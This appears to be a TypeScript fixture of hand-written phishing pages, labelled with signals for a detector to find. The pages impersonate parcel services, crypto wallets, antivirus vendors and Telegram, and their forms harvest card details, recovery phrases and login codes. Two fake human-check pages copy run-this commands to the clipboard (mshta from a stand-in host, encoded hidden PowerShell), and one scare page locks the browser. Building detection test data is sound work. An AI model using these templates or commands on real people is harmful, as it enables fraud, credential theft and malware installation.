// Kits that lure: with parcels, wallets, commands, scares and gifts, each written by hand.
import { dead, field, form, kitPage, logo, type Shape } from './kit_page.ts'

export const lures: readonly Shape[] = [
  {
    of: 'a parcel that waits for a small fee',
    html: kitPage(
      'USPS: delivery on hold',
      `${logo('USPS')}<h1>Your package could not be delivered</h1><p>Tracking number US9514901185421. A redelivery fee of $1.99 is required. The package is returned within 48 hours.</p>
${form('pay.php', 'Pay and schedule delivery', field('name', 'Full name'), field('address', 'Street address'), field('zip', 'ZIP code'), field('cc_number', 'Card number'), field('cc_exp', 'MM/YY'), field('cvv', 'CVV'))}
${dead('Track another package', 'Contact us')}<p>© United States Postal Service</p>`,
    ),
    lookalike: 'usps-redelivery-fee.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a parcel service in German that wants a card',
    html: kitPage(
      'DHL Sendungsverfolgung',
      `${logo('DHL')}<h1>Ihr Paket wartet</h1><p>Bitte bestätigen Sie die Zahlung der Zollgebühr, damit Ihr Paket zugestellt wird.</p>
${form('zahlung.php', 'Weiter', field('name', 'Name'), field('kartennummer', 'Kartennummer'), field('ablauf', 'MM/JJ'), field('cvv', 'CVV'))}
${dead('Hilfe', 'Datenschutz', 'Impressum')}<p>© DHL</p>`,
      { lang: 'de' },
    ),
    lookalike: 'dhl-paket-zustellung.com',
    signals: ['impersonated_brand'],
  },
  {
    of: 'a wallet that is to be restored by its words',
    html: kitPage(
      'MetaMask: restore your wallet',
      `${logo('MetaMask')}<h1>Restore your wallet</h1><p>Import your MetaMask wallet with your secret recovery phrase.</p>
${form('import.php', 'Import', ...Array.from({ length: 12 }, (_, at) => field(`w${at}`, `${at + 1}.`)))}${dead('Support', 'Terms')}`,
    ),
    lookalike: 'metamask-wallet-restore.com',
    signals: ['impersonated_brand', 'asks_for_wallet_phrase'],
  },
  {
    of: 'a list of wallets, each to be connected by phrase or key',
    html: kitPage(
      'Dapp Sync',
      `<h1>Connect your wallet</h1><div>${['Trust Wallet', 'MetaMask', 'Ledger', 'Phantom'].map(name => `<div class="w"><img src="img/${name}.png" alt="${name}">${name}</div>`).join('')}</div>
${form('submit.php', 'Connect', '<textarea name="phrase" placeholder="Enter your recovery phrase"></textarea>', field('private_key', 'Private key'))}`,
    ),
    signals: ['impersonated_brand', 'asks_for_wallet_phrase'],
  },
  {
    of: 'a check for robots that wants a command to be run',
    html: kitPage(
      'Just a moment',
      `<h1>Verify you are human</h1><p>Complete these steps:</p><ol><li>Press the Windows key + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><button id="v">Verify</button>`,
      { script: "v.onclick=function(){navigator.clipboard.writeText('mshta https://x.example/a.hta')}" },
    ),
    signals: ['paste_command_lure'],
  },
  {
    of: 'a missing font that a command repairs',
    html: kitPage(
      'Word Online',
      `<h1>The extension is not installed</h1><p>How to fix: open the Run dialog (Win + R), paste the copied text and press Enter.</p><button id="f">Copy fix</button>`,
      { script: "f.onclick=function(){navigator.clipboard.writeText('powershell -w h -enc SQBFAFgA')}" },
    ),
    signals: ['paste_command_lure'],
  },
  {
    of: 'a warning of a virus that holds its visitors',
    html: kitPage(
      'Windows Defender Security Center',
      `<div onclick="full()"><h1>Microsoft Windows Firewall Alert</h1><p>Your PC has been infected: Trojan_Spyware. Access to this system is blocked for security reasons. Do not close this window or restart your computer. Call Windows Support: +1 (888) 555-0142</p></div>`,
      {
        script:
          'function full(){document.documentElement.requestFullscreen()} window.onbeforeunload=function(){return 1}',
      },
    ),
    signals: ['tech_support_scare'],
  },
  {
    of: 'a virus scan in another’s name',
    html: kitPage(
      'McAfee Total Protection',
      `${logo('McAfee')}<h2>McAfee: scan results</h2><ul><li>Threat detected: Adware</li><li>Threat detected: Trojan</li><li>Threat detected: Spyware</li></ul><p>Your McAfee subscription has expired.</p><button>Renew now</button>`,
    ),
    lookalike: 'mcafee-renew-protection.com',
    signals: ['fake_virus_scan'],
  },
  {
    of: 'coins that come back doubled',
    html: kitPage(
      'Tesla 10 000 BTC event',
      `${logo('Tesla')}<h1>Official event</h1><p>Send from 0.1 to 20 BTC to the address below and receive double back. One time only.</p><code>bc1qexampleexampleexampleexampleexample00</code><div>Waiting for your payment</div>`,
    ),
    lookalike: 'tesla-btc-event.com',
    signals: ['coin_doubling'],
  },
  {
    of: 'rewards of a game behind a social log-in',
    html: kitPage(
      'PUBG MOBILE: free UC and skins',
      `${logo('PUBG')}<h1>Collect your reward</h1><div>${'<button>Collect</button>'.repeat(6)}</div><h3>Log in with Facebook to claim</h3>
${form('check.php', 'Log In', field('email', 'Email or phone'), field('password', 'Password', 'password'))}`,
      { head: '<style>body{user-select:none}</style>', script: 'document.oncontextmenu=function(){return false}' },
    ),
    signals: ['impersonated_brand'],
  },
  {
    of: 'a road toll that is left to pay',
    html: kitPage(
      'Toll services: unpaid balance',
      `<img src="img/toll.png" alt="Toll services"><h1>Outstanding toll</h1><p>Your vehicle has an unpaid toll of $6.99. Pay within 12 hours to avoid a late fee of $50.00.</p>
${form('pay.php', 'Pay now', field('name', 'Name on card'), field('cardnumber', 'Card number'), field('exp', 'MM/YY'), field('cvv', 'CVV'), field('zip', 'ZIP code'))}
${dead('Privacy', 'Contact us')}`,
    ),
    signals: [],
  },
  {
    of: 'a messenger whose code is asked for to vote',
    html: kitPage(
      'Telegram: vote for our dancer',
      `${logo('Telegram')}<h1>Log in to Telegram to vote</h1>
${form('send.php', 'Next', field('phone', '+1 Phone number', 'tel'), field('code', 'Login code'), field('password', 'Two-step password', 'password'))}`,
    ),
    lookalike: 'telegram-vote-login.com',
    signals: ['impersonated_brand'],
  },
]
